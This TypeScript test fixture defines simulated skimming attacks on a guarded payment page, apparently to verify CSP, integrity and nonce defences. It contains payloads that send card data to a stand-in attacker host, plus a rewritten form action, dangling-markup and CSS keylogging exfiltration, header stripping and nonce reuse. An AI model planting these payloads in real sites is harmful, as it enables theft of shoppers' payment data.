import type { GuardedServer, ServerOptions } from './guardedServer.js'

/** What an attacker does to the page, and how the shop was set up before. */
export interface Attack {
  readonly options?: Omit<ServerOptions, 'names' | 'certificate'>
  /** What the attacker changes between the shop and the shopper. */
  readonly plant?: (shop: GuardedServer) => void
  /** What code that already runs in the page does next. */
  readonly act?: (shop: GuardedServer) => string
}

/** Code that notes that it ran, and sends something away. */
const steal = ({ evil }: GuardedServer) =>
  `globalThis.ran = true; new Image().src = '${evil}/?card=4242'`

/** The nonce that every answer has in the attack with a nonce that is used again. */
const usedNonce = 'q83vEjRWeJq83vEjRWeJqQ=='

/** The attacks, each by its name in the table of docs/payment-page.md. */
export const attacks = {
  'an inline script': {
    plant: (shop) => {
      shop.planted.html = (html) => html.replace('<form', `<script>${steal(shop)}</script><form`)
    },
  },
  "a new script element for a file of the shop's own origin": {
    plant: (shop) => {
      shop.planted.files.set('/assets/x.js', steal(shop))
      shop.planted.html = (html) => `${html}<script src="/assets/x.js"></script>`
    },
  },
  'other content at a listed address': {
    plant: (shop) => void shop.planted.files.set(mainFile(shop), steal(shop)),
  },
  'the same, without `integrity`': {
    options: { isNonced: true, integrity: 'off' },
    plant: (shop) => {
      shop.planted.html = withoutIntegrity
      shop.planted.files.set(mainFile(shop), steal(shop))
    },
  },
  'the same, of a script element without `type="module"`': {
    options: { isNonced: true, integrity: 'off' },
    plant: (shop) => {
      shop.planted.html = (html) => withoutIntegrity(html).replace('type="module"', 'defer')
      shop.planted.files.set(mainFile(shop), steal(shop))
    },
  },
  'a tag manager that loads a script': { act: loadTag },
  'a tag manager with `strictDynamic` and its policy allowed': {
    options: { isNonced: true, strictDynamic: true, integrity: 'report', trustedTypes: ['tags'] },
    act: loadTag,
  },
  "a form's action rewritten": {
    plant: (shop) => {
      shop.planted.html = (html) =>
        html.replace('action="/pay"', `action="${shop.evil}/pay?card=4242"`)
    },
    act: () => "document.querySelector('#pay button').click()",
  },
  'a service worker': {
    plant: (shop) =>
      void shop.planted.files.set(
        '/assets/x.js',
        `fetch('${shop.evil}/?worker', { mode: 'no-cors' })`,
      ),
    act: () => "navigator.serviceWorker.register('/assets/x.js').catch(() => {})",
  },
  '`import()`': {
    plant: (shop) => void shop.planted.files.set('/assets/x.js', steal(shop)),
    act: () => "importFile('/assets/x.js').catch(() => {})",
  },
  "markup left open, so that the form becomes part of a picture's address": {
    plant: (shop) => {
      shop.planted.html = (html) => html.replace('<form', `<img src='${shop.evil}/?<form`)
    },
  },
  'styles that send what is typed, letter by letter': {
    plant: (shop) => {
      const style = `input[value^="c"] { background: url("${shop.evil}/c") }`
      shop.planted.html = (html) => `<style>${style}</style>${html}`
    },
  },
  'a weaker policy, changed on the way': {
    plant: (shop) => {
      shop.planted.headers = ({ 'content-security-policy': policy = '', ...headers }) => ({
        ...headers,
        'content-security-policy': policy.replace("connect-src 'self'", 'connect-src *'),
      })
    },
    act: ({ evil }) => `fetch('${evil}/?card=4242', { mode: 'no-cors' })`,
  },
  'all headers dropped on the way': {
    plant: (shop) => {
      shop.planted.headers = () => ({})
      shop.planted.html = (html) => html.replace('<form', `<script>${steal(shop)}</script><form`)
    },
  },
  'a nonce that is used again': {
    options: { isNonced: true, integrity: 'off' },
    plant: (shop) => {
      shop.planted.nonce = () => usedNonce
      shop.planted.html = (html) =>
        `${html}<script nonce="${usedNonce}" src="${shop.evil}/x.js"></script>`
    },
  },
} satisfies Readonly<Record<string, Attack>>

/** What extensions of the shopper's browser do, as the same table names it. */
export const extensions = {
  'an extension that puts a script into the page': { doesAsk: false },
  'the same, and its scripts ask another server': { doesAsk: true },
}

/** Takes away what the guard's plugin writes into the page. */
export function withoutIntegrity(html: string): string {
  return html.replace(/<script[^>]*importmap.*?<\/script>/, '').replace(/ integrity="[^"]*"/g, '')
}

function mainFile({ planted }: GuardedServer): string {
  return [...planted.files.keys()].find((name) => name.includes('index')) ?? ''
}

function loadTag({ evil }: GuardedServer): string {
  return `loadTag('${evil}/tag.js')`
}
